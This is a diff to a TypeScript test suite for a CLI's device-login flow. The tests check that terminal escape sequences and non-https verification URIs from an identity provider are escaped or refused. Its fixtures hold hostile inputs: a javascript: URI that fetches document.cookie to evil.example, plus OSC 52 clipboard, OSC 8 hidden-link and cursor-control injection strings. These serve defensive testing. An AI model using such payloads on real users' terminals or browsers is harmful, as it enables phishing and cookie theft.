@@ -4,8 +4,8 @@
  * an OSC 8 link hiding its target, a user code with a cursor move, an `error_description` with
  * escapes, and a `javascript:` verification URI. The real CLI, the real daemon it starts, a tiny
  * node:http AS and MCP server on 127.0.0.1. Human output shows every control character escaped;
- * `--json` keeps exact values; a verification URI that is not https (or loopback http) is never
- * offered, by the CLI or the agent server.
+ * `--json` keeps exact values; a verification URI with control characters, or that is not https
+ * (or loopback http), is never offered, by the daemon, the CLI or the agent server.
  */
 import assert from 'node:assert/strict';
 import { createServer, type Server } from 'node:http';
@@ -36,16 +36,24 @@ const cases = new Map<string, Case>([
   [
     'escapes',
     {
-      verificationUri: `https://idp.example/device${OSC52}${CLEAR}`,
-      verificationUriComplete: `https://idp.example/device?c=1${OSC8}`,
+      verificationUri: 'https://idp.example/device',
       userCode: `WDJB-MJHT\x1b[1A${CSI}`,
       denial: { error: 'invalid_request', error_description: `nope ${OSC52}${CLEAR} really` },
     },
   ],
   [
+    'uri-escapes',
+    {
+      verificationUri: `https://idp.example/device${OSC52}${CLEAR}`,
+      verificationUriComplete: `https://idp.example/device?c=1${OSC8}`,
+      userCode: 'WDJB-MJHT',
+      denial: { error: 'access_denied' },
+    },
+  ],
+  [
     'javascript',
     {
-      verificationUri: `javascript:fetch('//evil.example/'+document.cookie)//${CLEAR}`,
+      verificationUri: "javascript:fetch('//evil.example/'+document.cookie)//",
       userCode: 'ABCD-EFGH',
       denial: { error: 'access_denied' },
     },
@@ -122,18 +130,25 @@ const login = (name: string, ...extra: string[]) =>
     env,
   });
 
-test('device login: the IdP’s URI, link and code print escaped; --json keeps them exact', async () => {
+test('device login: a verification URI carrying escapes is refused, and shown escaped', async () => {
+  const run = await login('uri-escapes', '--no-wait');
+  assert.notEqual(run.code, 0);
+  for (const out of [run.stdout, run.stderr]) assert.ok(!raw.test(out), JSON.stringify(out));
+  assert.doesNotMatch(run.stdout, /open this URL/);
+  assert.match(
+    run.stderr,
+    /verification_uri "https:\/\/idp\.example\/device\\x1b\]52;c;ZWNobyBwd25lZA==\\x07\\x1b\[2J\\x1b\[H", which contains control characters/,
+  );
+  const status = await runCli(['auth', 'status', '--json'], { env });
+  const pending = JSON.parse(status.stdout).pendingLogins as Array<{ serverUrl: string }>;
+  assert.ok(!pending.some((l) => l.serverUrl.endsWith('/mcp/uri-escapes')), 'no login left polling');
+});
+
+test('device login: the IdP’s user code and error text print escaped; --json keeps them exact', async () => {
   const started = await login('escapes', '--no-wait');
   assert.equal(started.code, 0, started.stderr);
   for (const out of [started.stdout, started.stderr]) assert.ok(!raw.test(out), JSON.stringify(out));
-  assert.match(
-    started.stdout,
-    /open this URL on any device:\n {2}https:\/\/idp\.example\/device\\x1b\]52;c;/,
-  );
-  assert.match(
-    started.stdout,
-    /\\x1b\]8;;https:\/\/evil\.example\/phish\\x1b\\https:\/\/idp\.example\/device/,
-  );
+  assert.match(started.stdout, /open this URL on any device:\n {2}https:\/\/idp\.example\/device\n/);
   assert.match(started.stdout, /enter the code: WDJB-MJHT\\x1b\[1A\\x9b2J/);
 
   const json = await login('escapes', '--no-wait', '--json');
@@ -173,7 +188,7 @@ test('a javascript: verification URI is never offered; the pending login is canc
   assert.notEqual(run.code, 0);
   assert.ok(!raw.test(run.stderr + run.stdout), JSON.stringify(run.stderr));
   assert.doesNotMatch(run.stderr + run.stdout, /open this URL/);
-  assert.match(run.stderr, /error: .*https/);
+  assert.match(run.stderr, /error: .*which is not an https URL/);
   const noWait = await login('javascript', '--no-wait', '--json');
   assert.notEqual(noWait.code, 0);
   assert.doesNotMatch(noWait.stdout, /"verificationUri"/);
